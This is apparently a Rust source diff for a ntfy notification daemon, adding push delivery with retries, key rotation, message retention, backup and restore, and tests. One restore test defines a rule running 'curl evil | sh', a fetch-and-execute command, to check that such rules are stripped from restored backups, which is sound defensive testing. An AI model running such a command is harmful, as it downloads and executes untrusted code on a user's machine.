+        let (since, last_id) = stream_position(env, server, &topic).await;
+        let filter = sub.model().await.server_filter.unwrap_or_default();
+        let result = async {
+            let events = listener.add_topic(&topic, since, last_id, filter).await?;
+            sub.relisten(listener.clone(), events).await
+        }
+        .await;
+        if let Err(e) = result {
+            error!(server, topic, error = ?e, "Can't listen to the topic again");
+        }
+    }
+
+    // The stored registrations have the position of the last delivered message
+    let stored = match env.db.call(|db| db.list_push_registrations()).await {
+        Ok(stored) => stored,
+        Err(e) => {
+            error!(error = ?e, "Can't read the UnifiedPush registrations");
+            return;
+        }
+    };
+    let mut push_registrations = push_registrations.write().await;
+    for reg in stored.into_iter().filter(|reg| reg.server == server) {
+        let Some((_, reg_listener)) = push_registrations.get_mut(&reg.token) else {
+            continue;
+        };
+        match add_push_topic(env, listener, &reg).await {
+            Ok(()) => *reg_listener = listener.clone(),
+            Err(e) => error!(service = reg.service, error = ?e, "Can't add the UnifiedPush topic"),
+        }
+    }
+}
+
+async fn add_push_topic(
+    env: &SharedEnv,
+    listener: &ListenerHandle,
+    reg: &models::PushRegistration,
+) -> anyhow::Result<()> {
+    let events = listener
+        .add_topic(
+            &reg.topic,
+            reg.last_message_time,
+            reg.last_message_id.clone(),
+            Default::default(),
+        )
+        .await?;
+    spawn_local(deliver_push(
+        env.db.clone(),
+        env.push_deliveries.clone(),
+        reg.clone(),
+        events,
+    ));
+    Ok(())
+}
+
+// Hands the messages of an app's topic to the app instead of storing and showing them,
+// one at a time and in order. They queue up here while the app is slow, so that the
+// listener of the server keeps going. Stops when the topic is removed from the listener.
+async fn deliver_push(
+    db: DbHandle,
+    deliveries: async_channel::Sender<PushDelivery>,
+    reg: models::PushRegistration,
+    events: async_channel::Receiver<ListenerEvent>,
+) {
+    let mut queue = VecDeque::new();
+    let mut in_flight = None;
+    // A message that couldn't be delivered stays at the front of the queue and is tried
+    // again after a while, giving the backoff back for the next failure
+    let mut retry = None;
+    let mut waiting: Option<Pin<Box<dyn Future<Output = WaitExponentialRandom>>>> = None;
+    loop {
+        if in_flight.is_none() && waiting.is_none() {
+            if let Some(msg) = queue.front() {
+                let (delivery, delivered) = PushDelivery::new(&reg, msg);
+                if deliveries.send(delivery).await.is_err() {
+                    break;
+                }
+                in_flight = Some(delivered);
+            }
+        }
+        select! {
+            event = events.recv() => match event {
+                Ok(ListenerEvent::Message(msg)) => queue.push_back(msg),
+                Ok(_) => {}
+                Err(_) => break,
+            },
+            delivered = async { in_flight.as_mut().unwrap().await }, if in_flight.is_some() => {
+                in_flight = None;
+                let error = match delivered {
+                    Ok(Ok(())) => None,
+                    Ok(Err(e)) => Some(e.to_string()),
+                    Err(_) => Some("no distributor to hand it to".to_string()),
+                };
+                if let Some(error) = error {
+                    error!(
+                        service = reg.service,
+                        id = queue.front().map(|msg| &msg.id[..]),
+                        error = %error,
+                        "Can't deliver the UnifiedPush message, retrying"
+                    );
+                    let mut backoff = retry.take().unwrap_or_else(|| {
+                        WaitExponentialRandom::builder()
+                            .min(std::time::Duration::from_secs(1))
+                            .max(std::time::Duration::from_secs(5 * 60))
+                            .build()
+                    });
+                    waiting = Some(Box::pin(async move {
+                        backoff.wait().await;
+                        backoff
+                    }));
+                    continue;
+                }
+                retry = None;
+                let Some(msg) = queue.pop_front() else {
+                    continue;
+                };
+                // Only what the app confirmed moves the stream position, so that nothing is
+                // delivered twice after a restart
+                let (token, id, time) = (reg.token.clone(), msg.id, msg.time);
+                if let Err(e) = db
+                    .call(move |db| db.update_push_delivery(&token, &id, time))
+                    .await
+                {
+                    error!(error = ?e, "Can't store the last UnifiedPush message");
+                }
+            }
+            backoff = async { waiting.as_mut().unwrap().await }, if waiting.is_some() => {
+                waiting = None;
+                retry = Some(backoff);
+            }
+        }
+    }
+}
+
+fn prune_messages(
+    db: &mut Db,
+    dry_run: bool,
+    now: u64,
+) -> Result<Vec<models::PruneReport>, crate::Error> {
+    let global = db.get_retention_policy()?;
+
+    let mut reports = vec![];
+    for sub in db.list_subscriptions()? {
+        let policy = sub.retention.unwrap_or_default().or(&global);
+        if policy.is_empty() {
+            continue;
+        }
+        let report = if dry_run {
+            let prunable = db.list_prunable_messages(&sub.server, &sub.topic, &policy, now)?;
+            models::PruneReport {
+                server: sub.server,
+                topic: sub.topic,
+                count: prunable.len(),
+                bytes: prunable.iter().map(|(_, size)| size).sum(),
+            }
+        } else {
+            db.prune_messages(&sub.server, &sub.topic, &policy, now)?
+        };
+        if report.count > 0 {
+            reports.push(report);
+        }
+    }
+    if !dry_run && !reports.is_empty() {
+        db.reclaim_space(false)?;
+    }
+    Ok(reports)
+}
+
+impl NtfyHandle {
+    pub async fn subscribe(
+        &self,
+        server: &str,
+        topic: &str,
+    ) -> Result<SubscriptionHandle, anyhow::Error> {
+        send_command!(self, |resp_tx| NtfyCommand::Subscribe {
+            server: server.to_string(),
+            topic: topic.to_string(),
+            resp_tx,
+        })
+    }
+
+    pub async fn unsubscribe(&self, server: &str, topic: &str) -> anyhow::Result<()> {
+        send_command!(self, |resp_tx| NtfyCommand::Unsubscribe {
+            server: server.to_string(),
+            topic: topic.to_string(),
+            resp_tx,
+        })
+    }
+
+    // Subscribes to a shared topic and stores the key that came with it
+    pub async fn subscribe_shared(
+        &self,
+        share: TopicShare,
+    ) -> Result<SubscriptionHandle, anyhow::Error> {
+        send_command!(self, |resp_tx| NtfyCommand::SubscribeShared { share, resp_tx })
+    }
+
+    // Publishes to any topic of the server, subscribed or not
+    pub async fn publish(
+        &self,
+        server: &str,
+        msg: models::OutgoingMessage,
+        encryption: models::Encryption,
+    ) -> anyhow::Result<()> {
+        send_command!(self, |resp_tx| NtfyCommand::Publish {
+            server: server.to_string(),
+            msg: Box::new(msg),
+            encryption,
+            resp_tx,
+        })
+    }
+
+    // New messages and connection changes of all the subscriptions, including later ones
+    pub fn events(&self) -> broadcast::Receiver<SubscriptionEvent> {
+        self.events.subscribe()
+    }
+
+    pub async fn refresh_all(&self) -> anyhow::Result<()> {
+        send_command!(self, |resp_tx| NtfyCommand::RefreshAll { resp_tx })
+    }
+
+    pub async fn list_subscriptions(&self) -> anyhow::Result<Vec<SubscriptionHandle>> {
+        send_command!(self, |resp_tx| NtfyCommand::ListSubscriptions { resp_tx })
+    }
+
+    pub async fn list_accounts(&self) -> anyhow::Result<Vec<Account>> {
+        send_command!(self, |resp_tx| NtfyCommand::ListAccounts { resp_tx })
+    }
+
+    pub async fn watch_subscribed(&self) -> anyhow::Result<()> {
+        send_command!(self, |resp_tx| NtfyCommand::WatchSubscribed { resp_tx })
+    }
+
+    pub async fn add_account(
+        &self,
+        server: &str,
+        username: &str,
+        password: &str,
+    ) -> anyhow::Result<()> {
+        send_command!(self, |resp_tx| NtfyCommand::AddAccount {
+            server: server.to_string(),
+            username: username.to_string(),
+            password: password.to_string(),
+            resp_tx,
+        })
+    }
+
+    pub async fn remove_account(&self, server: &str) -> anyhow::Result<()> {
+        send_command!(self, |resp_tx| NtfyCommand::RemoveAccount {
+            server: server.to_string(),
+            resp_tx,
+        })
+    }
+
+    pub async fn add_key(&self, server: &str, topic: &str, key: &str) -> anyhow::Result<()> {
+         send_command!(self, |resp_tx| NtfyCommand::AddKey {
+            server: server.to_string(),
+            topic: topic.to_string(),
+            key: key.to_string(),
+            resp_tx,
+        })
+    }
+
+    pub async fn remove_key(&self, server: &str, topic: &str) -> anyhow::Result<()> {
         send_command!(self, |resp_tx| NtfyCommand::RemoveKey {
             server: server.to_string(),
             topic: topic.to_string(),
@@ -431,6 +1395,60 @@ impl NtfyHandle {
         })
     }
 
+    // All keys of the topic that can still decrypt, current key first
+    pub async fn list_keys(&self, server: &str, topic: &str) -> anyhow::Result<Vec<TopicKey>> {
+        let (resp_tx, resp_rx) = oneshot::channel();
+        self.command_tx
+            .send(NtfyCommand::ListKeys {
+                server: server.to_string(),
+                topic: topic.to_string(),
+                resp_tx,
+            })
+            .await
+            .map_err(|e| anyhow!("Actor is dead: {}", e))?;
+        Ok(resp_rx.await?)
+    }
+
+    pub async fn rotate_key(
+        &self,
+        server: &str,
+        topic: &str,
+        key: &str,
+        policy: RotationPolicy,
+    ) -> anyhow::Result<TopicKey> {
+        send_command!(self, |resp_tx| NtfyCommand::RotateKey {
+            server: server.to_string(),
+            topic: topic.to_string(),
+            key: key.to_string(),
+            policy,
+            resp_tx,
+        })
+    }
+
+    // Generates a random key and makes it the current key of the topic
+    pub async fn generate_key(
+        &self,
+        server: &str,
+        topic: &str,
+        policy: RotationPolicy,
+    ) -> anyhow::Result<TopicKey> {
+        send_command!(self, |resp_tx| NtfyCommand::GenerateKey {
+            server: server.to_string(),
+            topic: topic.to_string(),
+            policy,
+            resp_tx,
+        })
+    }
+
+    pub async fn remove_topic_key(&self, server: &str, topic: &str, id: &str) -> anyhow::Result<()> {
+        send_command!(self, |resp_tx| NtfyCommand::RemoveTopicKey {
+            server: server.to_string(),
+            topic: topic.to_string(),
+            id: id.to_string(),
+            resp_tx,
+        })
+    }
+
     pub async fn get_key(&self, server: &str, topic: &str) -> anyhow::Result<Option<String>> {
         let (resp_tx, resp_rx) = oneshot::channel();
         self.command_tx
@@ -443,12 +1461,258 @@ impl NtfyHandle {
             .map_err(|e| anyhow!("Actor is dead: {}", e))?;
         Ok(resp_rx.await?)
     }
+
+    // Full-text search over the stored messages of all subscriptions, or only of the given ones
+    pub async fn search_messages(
+        &self,
+        query: &str,
+        server: Option<&str>,
+        topic: Option<&str>,
+        limit: u32,
+        offset: u32,
+    ) -> anyhow::Result<Vec<models::SearchHit>> {
+        send_command!(self, |resp_tx| NtfyCommand::SearchMessages {
+            query: query.to_string(),
+            server: server.map(str::to_string),
+            topic: topic.map(str::to_string),
+            limit,
+            offset,
+            resp_tx,
+        })
+    }
+
+    pub async fn retention_policy(&self) -> anyhow::Result<models::RetentionPolicy> {
+        send_command!(self, |resp_tx| NtfyCommand::GetRetentionPolicy { resp_tx })
+    }
+
+    // Used by the subscriptions that don't have a policy of their own
+    pub async fn set_retention_policy(&self, policy: models::RetentionPolicy) -> anyhow::Result<()> {
+        send_command!(self, |resp_tx| NtfyCommand::SetRetentionPolicy { policy, resp_tx })
+    }
+
+    // Removes the messages that the retention policies don't keep
+    pub async fn prune_messages(&self) -> anyhow::Result<Vec<models::PruneReport>> {
+        send_command!(self, |resp_tx| NtfyCommand::PruneMessages {
+            dry_run: false,
+            resp_tx
+        })
+    }
+
+    // What `prune_messages` would remove right now, without removing it
+    pub async fn preview_prune(&self) -> anyhow::Result<Vec<models::PruneReport>> {
+        send_command!(self, |resp_tx| NtfyCommand::PruneMessages {
+            dry_run: true,
+            resp_tx
+        })
+    }
+
+    // Rebuilds the database file to its smallest size
+    pub async fn vacuum(&self) -> anyhow::Result<()> {
+        send_command!(self, |resp_tx| NtfyCommand::Vacuum { resp_tx })
+    }
+
+    // Passwords and topic keys are only included with a passphrase to encrypt them
+    pub async fn create_backup(&self, passphrase: Option<&str>) -> anyhow::Result<Backup> {
+        send_command!(self, |resp_tx| NtfyCommand::CreateBackup {
+            passphrase: passphrase.map(str::to_string),
+            resp_tx,
+        })
+    }
+
+    // Adds what the device doesn't have yet, returning the new subscriptions
+    pub async fn restore_backup(
+        &self,
+        backup: Backup,
+        passphrase: Option<&str>,
+    ) -> anyhow::Result<RestoreReport> {
+        send_command!(self, |resp_tx| NtfyCommand::RestoreBackup {
+            backup,
+            passphrase: passphrase.map(str::to_string),
+            resp_tx,
+        })
+    }
+
+    // Subscriptions and accounts of the other app that the device already has
+    pub async fn check_client_import(&self, import: ClientBackup) -> anyhow::Result<Vec<Conflict>> {
+        send_command!(self, |resp_tx| NtfyCommand::CheckClientImport {
+            import,
+            resp_tx
+        })
+    }
+
+    // Imports a backup of the ntfy Android or web app like a Ntfyr backup
+    pub async fn import_client_backup(
+        &self,
+        import: ClientBackup,
+    ) -> anyhow::Result<RestoreReport> {
+        send_command!(self, |resp_tx| NtfyCommand::ImportClientBackup {
+            import,
+            resp_tx
+        })
+    }
+
+    // Writes the stored messages to a file, returning how many were written
+    pub async fn export_messages(
+        &self,
+        selection: models::HistorySelection,
+        format: models::HistoryFormat,
+        path: PathBuf,
+    ) -> anyhow::Result<usize> {
+        send_command!(self, |resp_tx| NtfyCommand::ExportMessages {
+            selection,
+            format,
+            path,
+            resp_tx,
+        })
+    }
+
+    // Reads a JSON Lines export into the subscriptions with the same server and topic
+    pub async fn import_messages(&self, path: PathBuf) -> anyhow::Result<models::ImportReport> {
+        send_command!(self, |resp_tx| NtfyCommand::ImportMessages {
+            path,
+            resp_tx
+        })
+    }
+
+    pub async fn server_settings(&self, server: &str) -> anyhow::Result<models::ServerSettings> {
+        send_command!(self, |resp_tx| NtfyCommand::GetServerSettings {
+            server: server.to_string(),
+            resp_tx,
+        })
+    }
+
+    pub async fn update_server_settings(
+        &self,
+        server: &str,
+        settings: models::ServerSettings,
+    ) -> anyhow::Result<()> {
+        send_command!(self, |resp_tx| NtfyCommand::UpdateServerSettings {
+            server: server.to_string(),
+            settings,
+            resp_tx,
+        })
+    }
+
+    // Registers a UnifiedPush app, `service` is its D-Bus name
+    pub async fn register_push(
+        &self,
+        service: &str,
+        token: &str,
+        description: &str,
+    ) -> anyhow::Result<models::PushRegistration> {
+        send_command!(self, |resp_tx| NtfyCommand::RegisterPush {
+            service: service.to_string(),
+            token: token.to_string(),
+            description: description.to_string(),
+            resp_tx,
+        })
+    }
+
+    pub async fn unregister_push(&self, token: &str) -> anyhow::Result<()> {
+        send_command!(self, |resp_tx| NtfyCommand::UnregisterPush {
+            token: token.to_string(),
+            resp_tx,
+        })
+    }
+
+    pub async fn list_push_registrations(&self) -> anyhow::Result<Vec<models::PushRegistration>> {
+        send_command!(self, |resp_tx| NtfyCommand::ListPushRegistrations {
+            resp_tx
+        })
+    }
+
+    // Server of the topics created for new UnifiedPush registrations
+    pub async fn push_server(&self) -> anyhow::Result<String> {
+        send_command!(self, |resp_tx| NtfyCommand::GetPushServer { resp_tx })
+    }
+
+    pub async fn set_push_server(&self, server: &str) -> anyhow::Result<()> {
+        send_command!(self, |resp_tx| NtfyCommand::SetPushServer {
+            server: server.to_string(),
+            resp_tx,
+        })
+    }
+
+    // Subscriptions added or removed from now on, whoever asked for them
+    pub fn subscription_changes(&self) -> broadcast::Receiver<SubscriptionChange> {
+        self.subscription_changes.subscribe()
+    }
+
+    // Registrations, new endpoints and messages for the UnifiedPush apps
+    pub fn push_events(&self) -> broadcast::Receiver<PushEvent> {
+        self.push_events.subscribe()
+    }
+
+    // Messages for the UnifiedPush apps, each to be answered with whether the app got it
+    pub fn push_deliveries(&self) -> async_channel::Receiver<PushDelivery> {
+        self.push_deliveries.clone()
+    }
 }
 
 pub fn start(
     dbpath: &str,
     notification_proxy: Arc<dyn models::NotificationProxy>,
     network_proxy: Arc<dyn models::NetworkMonitorProxy>,
+) -> anyhow::Result<NtfyHandle> {
+    spawn(dbpath, notification_proxy, network_proxy, Mode::Listen)
+}
+
+// For one-off commands: the stored subscriptions aren't listened to and nothing is pruned
+pub fn start_idle(dbpath: &str) -> anyhow::Result<NtfyHandle> {
+    spawn(
+        dbpath,
+        Arc::new(models::NullNotifier::new()),
+        Arc::new(models::NullNetworkMonitor::new()),
+        Mode::Idle,
+    )
+}
+
+// A listening daemon on an in-memory database, with no stored secrets
+#[cfg(test)]
+pub(crate) fn start_nullable() -> NtfyHandle {
+    spawn(
+        ":memory:",
+        Arc::new(models::NullNotifier::new()),
+        Arc::new(models::NullNetworkMonitor::new()),
+        Mode::Nullable,
+    )
+    .unwrap()
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Mode {
+    Listen,
+    Idle,
+    #[cfg(test)]
+    Nullable,
+}
+
+// The stored passwords and topic keys. Without a Secret Service, e.g. on a server with
+// no session keyring, the daemon runs without them.
+async fn load_secrets(mode: Mode) -> (Credentials, Keys) {
+    #[cfg(test)]
+    if mode == Mode::Nullable {
+        return (
+            Credentials::new_nullable(vec![]).await.unwrap(),
+            Keys::new_nullable(HashMap::new()).unwrap(),
+        );
+    }
+    #[cfg(not(test))]
+    let _ = mode;
+    match futures::try_join!(Credentials::new(), Keys::new()) {
+        Ok(secrets) => secrets,
+        Err(e) => {
+            warn!(error = ?e, "running without the stored passwords and topic keys");
+            (Credentials::without_keyring(), Keys::without_keyring())
+        }
+    }
+}
+
+fn spawn(
+    dbpath: &str,
+    notification_proxy: Arc<dyn models::NotificationProxy>,
+    network_proxy: Arc<dyn models::NetworkMonitorProxy>,
+    mode: Mode,
 ) -> anyhow::Result<NtfyHandle> {
     let dbpath = dbpath.to_owned();
 
@@ -456,43 +1720,81 @@ pub fn start(
     let (handle_tx, handle_rx) = oneshot::channel();
 
     std::thread::spawn(move || {
-        let rt = tokio::runtime::Builder::new_current_thread()
+        let rt = match tokio::runtime::Builder::new_current_thread()
             .enable_all()
             .build()
-            .unwrap();
+        {
+            Ok(rt) => rt,
+            Err(e) => {
+                let _ = handle_tx.send(Err(e.into()));
+                return;
+            }
+        };
 
         // Create everything inside the new thread's runtime
-        let (credentials, keys) = rt.block_on(async move {
-            (
-                crate::credentials::Credentials::new().await.unwrap(),
-                crate::keys::Keys::new().await.unwrap(),
-            )
-        });
-
-        let env = SharedEnv {
-            db: Db::connect(&dbpath).unwrap(),
-            notifier: notification_proxy,
-            http_client: HttpClient::new(build_client().unwrap()),
-            network_monitor: network_proxy,
-            credentials,
-            keys,
+        let (credentials, keys) = rt.block_on(load_secrets(mode));
+        let (push_deliveries, push_queue) = async_channel::unbounded();
+        let env = (|| -> anyhow::Result<SharedEnv> {
+            Ok(SharedEnv {
+                db: DbHandle::connect(&dbpath)
+                    .with_context(|| format!("can't open the database {dbpath}"))?,
+                notifier: notification_proxy,
+                http_client: HttpClient::new(build_client()?),
+                network_monitor: network_proxy,
+                credentials,
+                keys,
+                hooks: Hooks::new(),
+                events: broadcast::channel(EVENTS_CAPACITY).0,
+                subscription_changes: broadcast::channel(EVENTS_CAPACITY).0,
+                push_events: broadcast::channel(EVENTS_CAPACITY).0,
+                push_deliveries,
+                push_queue,
+            })
+        })();
+        let env = match env {
+            Ok(env) => env,
+            Err(e) => {
+                let _ = handle_tx.send(Err(e));
+                return;
+            }
         };
 
         let (mut actor, handle) = NtfyActor::new(env);
         let handle_clone = handle.clone();
 
-        // Send the handle back to the calling thread
-        let _ = handle_tx.send(handle.clone());
-
         rt.block_on({
             let local_set = LocalSet::new();
             // Spawn the watch_subscribed task
+            if mode != Mode::Idle {
+                local_set.spawn_local(async move {
+                    if let Err(e) = handle_clone.watch_subscribed().await {
+                        error!(error = ?e, "Failed to watch subscribed topics");
+                    }
+                });
+            }
+
+            // Send the handle back to the calling thread. The tasks first run in the order
+            // they are spawned, so the watch command is queued before anything the caller
+            // sends and e.g. `list_subscriptions` already sees the stored subscriptions.
+            let handle_clone = handle.clone();
             local_set.spawn_local(async move {
-                if let Err(e) = handle_clone.watch_subscribed().await {
-                    error!(error = ?e, "Failed to watch subscribed topics");
-                }
+                let _ = handle_tx.send(Ok(handle_clone));
             });
 
+            // Prune the stored messages now and then
+            if mode != Mode::Idle {
+                let handle_clone = handle.clone();
+                local_set.spawn_local(async move {
+                    let mut interval = tokio::time::interval(PRUNE_INTERVAL);
+                    loop {
+                        interval.tick().await;
+                        if let Err(e) = handle_clone.prune_messages().await {
+                            error!(error = ?e, "Failed to prune stored messages");
+                        }
+                    }
+                });
+            }
+
             // Run the actor
             local_set.spawn_local(async move {
                 actor.run().await;
@@ -502,16 +1804,16 @@ pub fn start(
     });
 
     // Wait for the handle from the spawned thread
-    Ok(handle_rx
+    handle_rx
         .blocking_recv()
-        .map_err(|_| anyhow!("Failed to receive actor handle"))?)
+        .map_err(|_| anyhow!("Failed to receive actor handle"))?
 }
 
 #[cfg(test)]
 mod tests {
     use std::time::Duration;
 
-    use models::{OutgoingMessage, ReceivedMessage};
+    use models::OutgoingMessage;
     use tokio::time::sleep;
 
     use crate::ListenerEvent;
@@ -520,11 +1822,7 @@ mod tests {
 
     #[test]
     fn test_subscribe_and_publish() {
-        let notification_proxy = Arc::new(NullNotifier::new());
-        let network_proxy = Arc::new(NullNetworkMonitor::new());
-        let dbpath = ":memory:";
-
-        let handle = start(dbpath, notification_proxy, network_proxy).unwrap();
+        let handle = start_nullable();
 
         let rt = tokio::runtime::Builder::new_current_thread()
             .enable_all()
@@ -539,18 +1837,17 @@ mod tests {
             let subscription_handle = handle.subscribe(server, topic).await.unwrap();
 
             // Publish a message
-            let message = serde_json::to_string(&OutgoingMessage {
+            let message = OutgoingMessage {
                 topic: topic.to_string(),
                 ..Default::default()
-            })
-            .unwrap();
-            let result = subscription_handle.publish(message).await;
+            };
+            let result = subscription_handle.publish(message, Default::default()).await;
             assert!(result.is_ok());
 
             sleep(Duration::from_millis(250)).await;
 
             // Attach to the subscription and check if the message is received and stored
-            let (events, receiver) = subscription_handle.attach().await;
+            let (events, _receiver) = subscription_handle.attach().await;
             dbg!(&events);
             assert!(events.iter().any(|event| match event {
                 ListenerEvent::Message(msg) => msg.topic == topic,
@@ -558,4 +1855,275 @@ mod tests {
             }));
         });
     }
+
+    #[test]
+    fn test_subscription_changes() {
+        let handle = start_nullable();
+
+        let rt = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()
+            .unwrap();
+
+        rt.block_on(async move {
+            let server = "http://localhost:8000";
+            let mut changes = handle.subscription_changes();
+
+            let sub = handle.subscribe(server, "changed").await.unwrap();
+            match changes.recv().await.unwrap() {
+                SubscriptionChange::Added(added) => assert!(added.same(&sub)),
+                SubscriptionChange::Removed { .. } => panic!("expected an added subscription"),
+            }
+
+            handle.unsubscribe(server, "changed").await.unwrap();
+            match changes.recv().await.unwrap() {
+                SubscriptionChange::Removed { server: s, topic } => {
+                    assert_eq!((s.as_str(), topic.as_str()), (server, "changed"))
+                }
+                SubscriptionChange::Added(_) => panic!("expected a removed subscription"),
+            }
+        });
+    }
+
+    #[test]
+    fn test_restore_leaves_out_rules_acting_outside_the_app() {
+        let handle = start_nullable();
+
+        let rt = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()
+            .unwrap();
+
+        rt.block_on(async move {
+            let rule = |name: &str, action| models::FilterRule {
+                name: name.to_string(),
+                regex: ".*".to_string(),
+                action,
+            };
+            let sub = models::Subscription::builder("restored".to_string())
+                .server("http://localhost:8000".to_string())
+                .rules(Some(vec![
+                    rule("quiet", models::FilterAction::Mute),
+                    rule(
+                        "deploy",
+                        models::FilterAction::Run(models::CommandHook {
+                            program: "/bin/sh".to_string(),
+                            args: vec!["-c".to_string(), "curl evil | sh".to_string()],
+                            timeout: None,
+                        }),
+                    ),
+                    rule(
+                        "copy",
+                        models::FilterAction::Forward {
+                            server: "http://localhost:8000".to_string(),
+                            topic: "elsewhere".to_string(),
+                            transform: Default::default(),
+                        },
+                    ),
+                ]))
+                .build()
+                .unwrap();
+            let backup = Backup {
+                version: BACKUP_VERSION,
+                created_at: 0,
+                servers: vec![],
+                server_settings: Default::default(),
+                subscriptions: vec![sub],
+                accounts: vec![],
+                secrets: None,
+            };
+
+            let report = handle.restore_backup(backup, None).await.unwrap();
+
+            let removed: Vec<_> = report.removed_rules.iter().map(|r| &r.name[..]).collect();
+            assert_eq!(removed, ["deploy", "copy"]);
+            let restored = report.subscriptions[0].model().await;
+            let rules = restored.rules.unwrap();
+            assert_eq!(rules.len(), 1);
+            assert_eq!(rules[0].name, "quiet");
+        });
+    }
+
+    #[test]
+    fn test_restore_without_passphrase_reports_skipped_secrets() {
+        let handle = start_nullable();
+
+        let rt = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()
+            .unwrap();
+
+        rt.block_on(async move {
+            let server = "http://localhost:8000".to_string();
+            let secrets = Secrets {
+                passwords: HashMap::from([(server.clone(), "hunter2".to_string())]),
+                keys: vec![],
+            };
+            let backup = Backup {
+                version: BACKUP_VERSION,
+                accounts: vec![Account {
+                    server,
+                    username: "phil".to_string(),
+                }],
+                secrets: Some(secrets.seal("correct horse")),
+                ..Default::default()
+            };
+
+            let report = handle.restore_backup(backup.clone(), None).await.unwrap();
+            assert!(report.secrets_skipped);
+            assert_eq!(report.accounts, 0);
+
+            let report = handle
+                .restore_backup(backup, Some("correct horse"))
+                .await
+                .unwrap();
+            assert!(!report.secrets_skipped);
+            assert_eq!(report.accounts, 1);
+        });
+    }
+
+    #[test]
+    fn test_failed_push_delivery_is_retried() {
+        let rt = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()
+            .unwrap();
+
+        rt.block_on(async move {
+            let db = DbHandle::connect(":memory:").unwrap();
+            let reg = models::PushRegistration::new(
+                "org.example.App",
+                "token1",
+                "Example",
+                "http://localhost:8000",
+            );
+            db.call({
+                let reg = reg.clone();
+                move |db| db.insert_push_registration(&reg)
+            })
+            .await
+            .unwrap();
+            let (deliveries_tx, deliveries) = async_channel::unbounded();
+            let (events_tx, events) = async_channel::unbounded();
+            let delivering = deliver_push(db.clone(), deliveries_tx, reg, events);
+
+            let app = async {
+                for (id, time) in [("m1", 10), ("m2", 20)] {
+                    let msg = models::ReceivedMessage {
+                        id: id.to_string(),
+                        time,
+                        ..Default::default()
+                    };
+                    events_tx.send(ListenerEvent::Message(msg)).await.unwrap();
+                }
+                let delivery: PushDelivery = deliveries.recv().await.unwrap();
+                assert_eq!(delivery.id, "m1");
+                let _ = delivery
+                    .delivered
+                    .send(Err(zbus::Error::Failure("app busy".to_string())));
+
+                // The same message again after the backoff, then the next one
+                let mut ids = vec![];
+                for _ in 0..2 {
+                    let delivery = deliveries.recv().await.unwrap();
+                    ids.push(delivery.id);
+                    let _ = delivery.delivered.send(Ok(()));
+                }
+                assert_eq!(ids, ["m1", "m2"]);
+
+                // Only confirmed messages move the stream position
+                loop {
+                    let stored = db.call(|db| db.list_push_registrations()).await.unwrap();
+                    if stored[0].last_message_id.as_deref() == Some("m2") {
+                        assert_eq!(stored[0].last_message_time, 20);
+                        break;
+                    }
+                    sleep(Duration::from_millis(10)).await;
+                }
+                events_tx.close();
+            };
+            futures::join!(delivering, app);
+        });
+    }
+
+    #[test]
+    fn test_subscription_outlives_its_listener() {
+        let rt = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()
+            .unwrap();
+        let local_set = LocalSet::new();
+
+        local_set.block_on(&rt, async {
+            let message = |id: &str, time: u64| {
+                serde_json::json!({"id": id, "time": time, "event": "message", "topic": "test"})
+                    .to_string()
+                    + "\n"
+            };
+            let resumed = models::Subscription::build_stream_url(
+                "http://localhost",
+                "test",
+                "m1",
+                models::Transport::Ndjson,
+                &Default::default(),
+            )
+            .unwrap();
+            let http_client = HttpClient::new_nullable(
+                crate::http_client::NullableClient::builder()
+                    .stalled_response(
+                        models::Subscription::build_url("http://localhost", "test", 0).unwrap(),
+                        200,
+                        message("m1", 10),
+                    )
+                    .stalled_response(resumed, 200, message("m2", 20))
+                    .build(),
+            );
+            let (push_deliveries, push_queue) = async_channel::unbounded();
+            let env = SharedEnv {
+                db: DbHandle::connect(":memory:").unwrap(),
+                notifier: Arc::new(models::NullNotifier::new()),
+                http_client,
+                network_monitor: Arc::new(models::NullNetworkMonitor::new()),
+                credentials: Credentials::new_nullable(vec![]).await.unwrap(),
+                keys: Keys::new_nullable(HashMap::new()).unwrap(),
+                hooks: Hooks::new(),
+                events: broadcast::channel(EVENTS_CAPACITY).0,
+                subscription_changes: broadcast::channel(EVENTS_CAPACITY).0,
+                push_events: broadcast::channel(EVENTS_CAPACITY).0,
+                push_deliveries,
+                push_queue,
+            };
+            let (mut actor, handle) = NtfyActor::new(env);
+            let server_listeners = actor.server_listeners.clone();
+            spawn_local(async move { actor.run().await });
+
+            let events = handle.events();
+            let next_message = |events: &broadcast::Receiver<SubscriptionEvent>| {
+                let mut events = events.resubscribe();
+                async move {
+                    loop {
+                        if let ListenerEvent::Message(msg) = events.recv().await.unwrap().event {
+                            return msg.id;
+                        }
+                    }
+                }
+            };
+            let first = next_message(&events);
+            let _sub = handle.subscribe("http://localhost", "test").await.unwrap();
+            let id = tokio::time::timeout(Duration::from_secs(5), first).await.unwrap();
+            assert_eq!(id, "m1");
+
+            // The listener of the server stops
+            let listener = server_listeners.read().await["http://localhost"].clone();
+            listener.commands.send(ListenerCommand::Shutdown).await.unwrap();
+            while !listener.is_closed() {
+                sleep(Duration::from_millis(10)).await;
+            }
+
+            let second = next_message(&events);
+            handle.refresh_all().await.unwrap();
+            let id = tokio::time::timeout(Duration::from_secs(5), second).await.unwrap();
+            assert_eq!(id, "m2");
+        });
+    }
 }